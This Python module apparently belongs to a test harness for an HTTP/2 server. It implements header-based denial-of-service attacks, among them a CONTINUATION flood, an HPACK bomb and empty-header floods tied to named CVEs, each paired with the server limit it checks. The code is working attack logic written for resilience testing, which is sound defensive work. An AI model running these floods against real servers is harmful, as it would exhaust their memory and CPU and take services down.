"""Header blocks that never end, or that mean far more than they say."""

from __future__ import annotations

from itertools import count, product
from pathlib import Path
from string import ascii_lowercase
from typing import ClassVar, Final

from fuzz.attacks.attack import Attack
from fuzz.attacks.peer import Peer
from fuzz.attacks.wire import (
    END_HEADERS,
    END_STREAM,
    Kind,
    frame,
    framed,
    greeting,
    header_integer,
    literal,
    request_block,
    unary,
)

__all__ = [
    "ContinuationFlood",
    "EmptyHeaderNames",
    "HpackBomb",
    "HugeHeaders",
    "OpenHeaders",
    "RememberedHeaders",
    "TableResizes",
]

_BLOCK: Final = request_block("/nowhere")
_FRAME: Final = 16_384
#: Fields of five bytes, nearly as many as a header list may have. As objects they take twenty times as much.
_SMALL: Final = b"".join([literal(a + b, b) for a, b in product(ascii_lowercase[:16], repeat=2)])


def _crumbs(number: int) -> bytes:
    """A header block of small fields that differs from all others."""
    return request_block() + _SMALL + literal("x", str(number))


class ContinuationFlood(Attack):
    """A header block of CONTINUATION frames without end: empty, small and large ones by turns."""

    name = "continuation-flood"
    cve = "CVE-2024-27316"
    summary = "CONTINUATION frames without end"
    limit = "16 CONTINUATIONs and 32 KiB per header block"
    stops = ("GOAWAY ENHANCE_YOUR_CALM",)
    _sizes: ClassVar = (0, 1, 4_096)

    async def strike(self, peer: Peer) -> None:
        size = self._sizes[peer.tally.connections % len(self._sizes)]
        await peer.send(greeting() + frame(Kind.HEADERS, 0, 1, _BLOCK))
        piece = literal("x-filler", "v" * size)[:size]
        while True:
            await peer.send(frame(Kind.CONTINUATION, 0, 1, piece) * 10, 10)


class HpackBomb(Attack):
    """One field of nearly the whole dynamic table, and a block that refers to it again and again."""

    name = "hpack-bomb"
    cve = "CVE-2016-6581"
    summary = "a 4 KB header field in the table, and 16,000 one-byte references to it per request"
    limit = "decoded header list of 16 KiB; twice that ends the connection"
    stops = ("GOAWAY ENHANCE_YOUR_CALM",)

    async def strike(self, peer: Peer) -> None:
        await peer.send(greeting())
        first = _BLOCK + literal("x-bomb", "b" * 4_000, 0x40)
        await peer.send(frame(Kind.HEADERS, END_HEADERS | END_STREAM, 1, first), 1)
        newest = header_integer(62, 7, 0x80)
        stream_id = 3
        while True:
            await peer.send(frame(Kind.HEADERS, END_HEADERS | END_STREAM, stream_id, newest * _FRAME), 1)
            stream_id += 2


class HugeHeaders(Attack):
    """Requests with as many bytes of literal fields as a frame takes, Huffman-coded, which is dear to decode."""

    name = "huge-headers"
    summary = "16 KiB of Huffman-coded literals per request"
    limit = "decoded header list of 16 KiB; beyond it a call fails, beyond twice that the connection"
    stops = ("GOAWAY ENHANCE_YOUR_CALM", "grpc-status 8")

    async def strike(self, peer: Peer) -> None:
        await peer.send(greeting())
        stream_id = 1
        # "0" is five zero bits, so that five zero bytes are eight of them.
        zeros = (_FRAME - len(_BLOCK) - 20) // 5 * 5
        bomb = _BLOCK + b"\0\1x" + header_integer(zeros, 7, 0x80) + bytes(zeros)
        while True:
            await peer.send(frame(Kind.HEADERS, END_HEADERS | END_STREAM, stream_id, bomb), 1)
            stream_id += 2


class TableResizes(Attack):
    """Blocks of changes of the dynamic table's size, each of which empties and makes it anew."""

    name = "hpack-resizes"
    summary = "thousands of changes of the header table's size per request"
    limit = "32 KiB per header block; reads are kept short"
    stops = ()

    async def strike(self, peer: Peer) -> None:
        await peer.send(greeting())
        resizes = (b"\x20" + header_integer(4_096, 5, 0x20)) * ((_FRAME - len(_BLOCK)) // 4 - 1)
        stream_id = 1
        while True:
            await peer.send(frame(Kind.HEADERS, END_HEADERS | END_STREAM, stream_id, resizes + _BLOCK), 1)
            stream_id += 2


class EmptyHeaderNames(Attack):
    """Fields without name and value, which some servers keep memory for without counting it."""

    name = "empty-headers"
    cve = "CVE-2019-9516"
    summary = "header fields without name and value"
    limit = "decoded header list of 16 KiB, where a field of no bytes counts as 32; malformed requests are reset, and "
    limit += "resets are limited"
    stops = ("GOAWAY ENHANCE_YOUR_CALM", "RST_STREAM PROTOCOL_ERROR")

    async def strike(self, peer: Peer) -> None:
        await peer.send(greeting())
        empty = literal("", "", 0x40) * 400
        stream_id = 1
        while True:
            await peer.send(frame(Kind.HEADERS, END_HEADERS | END_STREAM, stream_id, _BLOCK + empty), 1)
            stream_id += 2


class RememberedHeaders(Attack):
    """Connections that make requests of many small fields, each another one, and are idle then."""

    name = "remembered-headers"
    summary = "40 connections with 128 requests of 257 small fields each, which say nothing then"
    limit = "192 KiB of header blocks and fields, as objects, per connection, half of `--limit server_buffer` in all; "
    limit += "none but the table of 4 KiB once there was no request for two seconds"
    stops = ()
    connections = 40

    async def strike(self, peer: Peer) -> None:
        await peer.send(greeting())
        for number in range(128):
            await peer.send(unary(2 * number + 1, _crumbs(number), framed(b"")), 1)
        await peer.wait_over()


class OpenHeaders(Attack):
    """Requests of many small fields that never end."""

    name = "open-headers"
    summary = "requests of 257 small fields each, which take 20 times their bytes, and which never end"
    limit = "fields of open calls are counted as objects, in half of `--limit server_buffer` at most"
    stops = ("RST_STREAM REFUSED_STREAM",)
    connections = 2

    def flags(self, folder: Path) -> tuple[str, ...]:
        return ("--limit", "server_buffer=64000000")

    async def strike(self, peer: Peer) -> None:
        await peer.send(greeting())
        for number in count():
            await peer.send(frame(Kind.HEADERS, END_HEADERS, 2 * number + 1, _crumbs(number)), 1)
